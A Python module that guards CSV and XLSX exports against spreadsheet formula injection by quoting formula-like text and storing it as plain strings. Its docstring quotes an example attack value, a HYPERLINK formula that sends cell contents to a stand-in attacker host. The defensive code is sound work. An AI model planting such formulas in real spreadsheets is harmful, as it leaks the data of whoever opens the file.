"""Cells of the files people open in a spreadsheet program (CSV, XLSX).

Text typed by users reaches these files: an advisor's organisation, a topic's
or municipality's name. A spreadsheet runs text starting with =, +, -, @, a tab
or a carriage return as a formula, so an organisation named
`=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")` would send the
coordinator's figures away (CSV injection, OWASP). Every CSV and XLSX writer
writes its cells through here, so such text arrives as text:

- CSV: the text gets a leading single quote (OWASP's advice) and every text
  cell is in double quotes, so a `;` inside it cannot start a new cell in a
  spreadsheet set to split on semicolons (Swedish Excel does).
- XLSX: the cell is stored as a string, never a formula, and marked as typed
  text (quotePrefix), so editing it in Excel keeps it text.

Numbers stay numbers, negative ones too; None is an empty cell.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    """Text that a spreadsheet program would run rather than show."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


# --- CSV ------------------------------------------------------------------------------------


def csv_cell(value: Any) -> str | int | float:
    """One CSV cell: numbers as they are, None as empty, text defused."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return f"'{text}" if looks_like_formula(text) else text


class CsvWriter:
    """csv.writer for files opened in a spreadsheet: rows of any values, each
    cell through `csv_cell`, text quoted, numbers not, CRLF line ends."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in row])


# --- XLSX -----------------------------------------------------------------------------------


def xlsx_cell(sheet: Worksheet, value: Any) -> Any:
    """A value for `sheet.append`: formula-like text as a text cell, anything
    else as it is (openpyxl stores a str starting with "=" as a formula)."""
    if not looks_like_formula(value):
        return value
    cell = Cell(sheet)
    cell.value = value
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_append(sheet: Worksheet, row: Iterable[Any]) -> None:
    """`sheet.append(row)` with every cell through `xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, value) for value in row])
